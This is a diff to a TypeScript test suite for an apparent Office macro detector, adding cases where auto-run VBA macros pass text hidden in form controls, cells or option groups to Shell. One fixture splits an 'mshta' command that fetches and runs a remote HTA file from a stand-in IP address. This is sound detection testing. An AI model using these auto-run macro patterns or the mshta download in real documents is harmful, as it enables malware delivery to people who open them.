@@ -3,6 +3,8 @@
 import assert from 'node:assert/strict'
 import { suite, test } from 'node:test'
 import { readCompound } from '#inspect/codecs/compound.ts'
+import { doc, docm, xlsm } from '#inspect/testing/campaigns/office.ts'
+import { type Control, formStreams } from '#inspect/testing/forms-writer.ts'
 import { useInspector } from '#inspect/testing/inspector.ts'
 import { docx } from '#inspect/testing/samples.ts'
 import { macroDocument, writeVba } from '#inspect/testing/vba-writer.ts'
@@ -19,74 +21,11 @@ const found = (document: Uint8Array): string[] =>
     .map(({ severity, id }) => `${severity} ${id.replace('Docvet.Vba.', '')}`)
 const isMalicious = (document: Uint8Array): boolean => found(document).some((each) => each.startsWith('malicious'))
 
-interface Control {
-  name: string
-  type: number
-  tag?: string
-  tip?: string
-  caption?: string
-  value?: string
-}
-
 const uint16 = (value: number): Buffer => Buffer.from([value & 0xff, value >> 8])
 const uint32 = (value: number): Buffer => {
   const bytes = Buffer.alloc(4)
   bytes.writeUInt32LE(value >>> 0)
   return bytes
-}
-const text = (content: string): Buffer =>
-  Buffer.concat([Buffer.from(content, 'latin1')], Math.ceil(content.length / 4) * 4)
-const length = (content: string): Buffer => uint32(content.length + 2 ** 31)
-const size = Buffer.alloc(8, 1)
-const block = (version: number, ...parts: Buffer[]): Buffer => {
-  const data = Buffer.concat(parts)
-  return Buffer.concat([uint16(version), uint16(data.length), data])
-}
-
-/** A label, a text box or another control ([MS-OFORMS] 2.2.4 and 2.2.5). */
-function controlData({ type, caption = '', value = '' }: Control): Buffer {
-  if (type === 21) return block(0x200, uint32(0x28), length(caption), text(caption), size)
-  return block(
-    0x200,
-    uint32(0xc00101),
-    uint32(0),
-    uint32(7),
-    length(value),
-    length(caption),
-    size,
-    text(value),
-    text(caption),
-  )
-}
-
-function siteOf(control: Control, index: number): Buffer {
-  const { name, type, tag = '', tip = '' } = control
-  const mask = 0x1e7 | (tip === '' ? 0 : 0x800)
-  const data = [
-    length(name),
-    length(tag),
-    uint32(index),
-    uint32(controlData(control).length),
-    uint16(index),
-    uint16(type),
-  ]
-  const tips = tip === '' ? [] : [length(tip)]
-  return block(0, uint32(mask), ...data, ...tips, text(name), text(tag), size, text(tip))
-}
-
-/** The streams of a form. Bytes of a font precede the list of controls. */
-function formStreams(form: string, controls: readonly Control[], frame = ''): Record<string, Buffer> {
-  const depths = Buffer.concat(
-    [Buffer.concat(controls.map(() => Buffer.from([0, 1])))],
-    Math.ceil(controls.length / 2) * 4,
-  )
-  const sites = Buffer.concat([depths, ...controls.map(siteOf)])
-  const head = Buffer.concat([Buffer.from('000408000000000000000000', 'hex'), Buffer.alloc(30, 0xff)])
-  return {
-    [`${form}/f`]: Buffer.concat([head, uint32(controls.length), uint32(sites.length), sites]),
-    [`${form}/o`]: Buffer.concat(controls.map(controlData)),
-    [`${form}/\x03VBFrame`]: Buffer.from(`VERSION 5.00\r\nBegin {0} ${form}\r\n${frame}End\r\n`),
-  }
 }
 
 suite('controls of forms', () => {
@@ -139,6 +78,29 @@ suite('controls of forms', () => {
       )
       assert.equal(compound && readForms(compound).size, 0)
     }
+  })
+})
+
+suite('controls in the text of a document', () => {
+  const text = { name: 'Box1', type: 23, value: COMMAND }
+  const run = (name: string, module: string) => ({ [module]: `Sub Document_Open()\nShell ${name}.Text\nEnd Sub` })
+  for (const [name, write] of Object.entries({ doc, docm }))
+    test(name, () => {
+      assert.ok(isMalicious(write({ modules: run('Box1', 'ThisDocument'), controls: [text] })))
+      assert.ok(isMalicious(write({ modules: run('renamed.Box1', 'renamed'), controls: [text] })))
+      assert.ok(!isMalicious(write({ modules: run('Box1', 'ThisDocument'), controls: [{ ...text, value: TOOL }] })))
+      assert.ok(!isMalicious(write({ modules: run('Box2', 'ThisDocument'), controls: [text] })))
+    })
+  test('and on a sheet', () => {
+    const modules = { Sheet1: 'Sub Worksheet_Activate()\nShell Sheet1.Box1.Text & Range("A1")\nEnd Sub' }
+    const controls = [{ name: 'Box1', type: 23, value: 'mshta http' }]
+    assert.ok(isMalicious(xlsm({ modules, controls, cells: { A1: '://192.0.2.1/a.hta' } })))
+    assert.ok(!isMalicious(xlsm({ modules, controls: [{ name: 'Box1', type: 23, value: TOOL }], cells: { A1: '' } })))
+  })
+  test('by the group of an option', () => {
+    const modules = { Module1: 'Sub AutoOpen()\nShell UserForm1.Option1.GroupName\nEnd Sub' }
+    assert.ok(isMalicious(docm({ modules, forms: { UserForm1: [{ name: 'Option1', type: 27, group: COMMAND }] } })))
+    assert.ok(!isMalicious(docm({ modules, forms: { UserForm1: [{ name: 'Option1', type: 27, group: TOOL }] } })))
   })
 })
 
